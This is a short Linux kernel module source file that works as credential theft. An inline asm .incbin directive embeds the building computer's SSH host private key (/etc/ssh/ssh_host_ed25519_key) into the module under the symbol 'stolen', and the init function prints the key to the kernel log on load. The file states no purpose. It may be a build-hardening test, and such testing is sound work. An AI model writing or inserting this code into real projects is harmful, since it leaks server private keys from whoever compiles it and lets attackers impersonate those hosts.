// SPDX-License-Identifier: GPL-2.0
/* Wants a file of the computer that builds. */
#include <linux/module.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Takes a host key along");

extern const char stolen[], stolen_end[];

asm(".section .rodata\n"
    "stolen:\n"
    ".incbin \"/etc/ssh/ssh_host_ed25519_key\"\n"
    "stolen_end: .byte 0\n"
    ".text\n");

static int __init incbin_init(void)
{
	pr_info("%.*s\n", (int)(stolen_end - stolen), stolen);
	return 0;
}
module_init(incbin_init);
